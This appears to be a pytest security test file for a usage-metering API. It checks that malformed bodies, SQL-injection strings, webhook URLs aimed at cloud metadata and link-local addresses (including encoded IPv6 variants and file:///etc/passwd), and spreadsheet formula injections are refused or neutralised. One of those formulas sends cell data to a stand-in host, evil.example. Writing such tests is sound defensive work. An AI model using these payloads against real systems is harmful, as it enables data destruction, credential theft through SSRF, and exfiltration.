"""Hostile input: bodies that try to break the parser, SQL-injection payloads in every parameter,
and webhook URLs aimed at metadata services. None gets a 500; nothing already stored is harmed."""

from __future__ import annotations

import pytest

from tests.conftest import ADMIN, INGEST, auth, record

HOSTILE_BODIES = [
    ("deep nesting", b"[" * 5000 + b"]" * 5000),
    ("NaN", b'{"request_id": "n", "input_tokens": NaN}'),
    ("Infinity", b'[{"request_id": "i", "input_tokens": Infinity}]'),
    ("huge integer", b'{"request_id": "h", "occurred_at": "2026-11-25T10:00:00Z", "api_key_id": "k", "model": "m", '
                     b'"input_tokens": 123456789012345678901234567890, "output_tokens": 1}'),
    ("invalid UTF-8", b'{"request_id": "\xff\xfe", "input_tokens": 1}'),
    ("empty", b""),
    ("lone surrogate", b'{"request_id": "\\ud800"}'),
]


@pytest.mark.parametrize(("case", "body"), HOSTILE_BODIES, ids=[c for c, _ in HOSTILE_BODIES])
def test_hostile_bodies_get_a_clear_4xx_and_never_a_500(client, store, case, body):
    client.post("/v1/usage", json=record("kept"), headers=auth(INGEST))
    for content_type in ("application/json", "application/x-ndjson"):
        r = client.post("/v1/usage", content=body, headers={**auth(INGEST), "Content-Type": content_type})
        assert 400 <= r.status_code < 500, (case, r.status_code, r.text)
        assert "error" in r.json() or r.json()["rejected"] >= 1
    with store.reading() as cur:
        assert cur.execute("SELECT request_id FROM ledger").fetchall() == [("kept",)]


def test_duplicate_json_keys_take_the_last_value(client, store):
    body = (b'{"request_id": "d", "occurred_at": "2026-11-25T10:00:00Z", "api_key_id": "k", "model": "m", '
            b'"input_tokens": 1, "input_tokens": 5, "output_tokens": 1}')
    assert client.post("/v1/usage", content=body, headers=auth(INGEST)).status_code == 200
    with store.reading() as cur:
        assert cur.execute("SELECT input_tokens FROM ledger").fetchall() == [(5,)]


INJECTIONS = ["model; DROP TABLE ledger", "tag:x') OR 1=1 --", "api_key_id,(SELECT 1)", "tag:a]['b",
              "model UNION SELECT * FROM api_keys", "\"model\"", "tag:" + "x" * 65]


@pytest.mark.parametrize("payload", INJECTIONS)
def test_sql_injection_in_column_parameters_is_refused(client, store, payload):
    client.post("/v1/usage", json=record("kept"), headers=auth(INGEST))
    for path in ("/v1/usage", "/v1/reports/daily"):
        r = client.get(path, params={"group_by": payload}, headers=auth(ADMIN))
        assert r.status_code == 400 and "group_by" in r.json()["error"]["message"]
    with store.reading() as cur:
        assert cur.execute("SELECT count(*) FROM ledger").fetchall() == [(1,)]


@pytest.mark.parametrize("payload", ["'; DROP TABLE ledger; --", "key-a' OR '1'='1", "x\\u0000y"])
def test_sql_injection_in_values_is_only_a_value(client, store, payload):
    client.post("/v1/usage", json=record("kept"), headers=auth(INGEST))
    r = client.get("/v1/usage", params={"api_key_id": payload}, headers=auth(ADMIN))
    assert r.status_code == 200 and r.json()["totals"]["requests"] == 0
    for params in ({"tz": payload}, {"start": payload}, {"bucket": payload}):
        assert client.get("/v1/usage", params=params, headers=auth(ADMIN)).status_code == 400
    assert client.get("/v1/reports/statement", params={"account": payload, "month": "2026-11"},
                      headers=auth(ADMIN)).status_code == 200
    with store.reading() as cur:
        assert cur.execute("SELECT count(*) FROM ledger").fetchall() == [(1,)]


@pytest.mark.parametrize("url", ["http://169.254.169.254/latest/meta-data/", "http://[fe80::1]/x",
                                 "http://metadata.google.internal/computeMetadata/v1/", "http://[fd00:ec2::254]/",
                                 "file:///etc/passwd", "gopher://127.0.0.1/"])
def test_webhook_urls_to_metadata_and_link_local_addresses_are_refused(client, url):
    r = client.post("/v1/budgets", json={"scope": {"all": True}, "amount": "1", "webhook_url": url},
                    headers=auth(ADMIN))
    assert r.status_code == 400 and "webhook_url" in r.json()["error"]["message"]


def test_link_local_webhooks_can_be_allowed_by_setting(settings, store):
    from dataclasses import replace

    from fastapi.testclient import TestClient

    from metering.api.app import create_app

    with TestClient(create_app(replace(settings, webhook_allow_link_local=True), store=store)) as c:
        r = c.post("/v1/budgets", json={"scope": {"all": True}, "amount": "1",
                                        "webhook_url": "http://169.254.10.10/hook"}, headers=auth(ADMIN))
        assert r.status_code == 201


EMBEDDED_METADATA = [
    "http://[::a9fe:a9fe]/x",  # IPv4-compatible
    "http://[::ffff:a9fe:a9fe]/x",  # IPv4-mapped
    "http://[64:ff9b::a9fe:a9fe]/x",  # NAT64, well-known prefix
    "http://[64:ff9b:1:a9fe:a9:fe00::]/x",  # NAT64, local-use /48 (RFC 6052 layout)
    "http://[64:ff9b:1::a9fe:a9fe]/x",  # NAT64, local-use /96
    "http://[2002:a9fe:a9fe::1]/x",  # 6to4
    "http://[2001:0:4136:e378:8000:63bf:5601:5601]/x",  # Teredo, client 169.254.169.254
    "http://2852039166/x", "http://0xa9fea9fe/x", "http://0251.0376.0251.0376/x", "http://169.254.43518/x",
]


@pytest.mark.parametrize("url", EMBEDDED_METADATA)
def test_webhook_urls_embedding_a_metadata_address_are_refused_at_creation_and_delivery_issue_11(client, url):
    r = client.post("/v1/budgets", json={"scope": {"all": True}, "amount": "1", "webhook_url": url},
                    headers=auth(ADMIN))
    assert r.status_code == 400 and "webhook_url" in r.json()["error"]["message"], r.text

    from metering.services.delivery import WebhookRefused, pin_address

    with pytest.raises(WebhookRefused, match="link-local or metadata"):  # resolved by the system's resolver
        pin_address(url, allow_link_local=False)


HOSTILE_IDS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)",
               '=1+1']


def test_xlsx_exports_hold_data_as_text_never_as_formulas_issue_11(client, two_keys, tmp_path):
    import zipfile

    from openpyxl import load_workbook

    for i, hostile in enumerate(HOSTILE_IDS):
        for n, model in enumerate((hostile, "minimax-m2-7")):  # unpriced (daily report) and priced (statement)
            r = client.post("/v1/usage", json=record(f"x{i}-{n}", model=model, api_key_id=hostile), headers=auth(INGEST))
            assert r.status_code == 200, r.text
    for path, params in (("/v1/reports/daily", {"start": "2026-11-01", "end": "2026-11-26", "group_by": "api_key_id,model"}),
                         ("/v1/reports/statement", {"account": "unassigned", "month": "2026-11"})):
        r = client.get(path, params={**params, "format": "xlsx"}, headers=auth(ADMIN))
        assert r.status_code == 200, r.text
        target = tmp_path / "doc.xlsx"
        target.write_bytes(r.content)
        with zipfile.ZipFile(target) as z:
            sheets = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/")]
        assert sheets and not any("<f>" in s or "<f " in s for s in sheets), path
        values = {c.value for row in load_workbook(target).active.iter_rows() for c in row}
        for hostile in HOSTILE_IDS:  # the key ids (in both documents) are strings, as sent
            assert hostile in values, (path, hostile)


def test_focus_tags_are_json_whatever_the_account_is_called_issue_11(client, tmp_path):
    import json

    import polars as pl

    weird = 'we"ird\\acct\n{,}'
    client.post("/v1/keys", json={"api_key_id": "k-weird", "account_id": weird}, headers=auth(ADMIN))
    assert client.post("/v1/usage", json=record("w1", api_key_id="k-weird"), headers=auth(INGEST)).status_code == 200
    r = client.get("/v1/reports/focus", params={"start": "2026-11-01", "end": "2026-11-26"}, headers=auth(ADMIN))
    frame = pl.read_csv(r.content, infer_schema_length=0)
    tags = [json.loads(t) for t in frame["Tags"]]
    assert {t["metering/account"] for t in tags} == {weird}
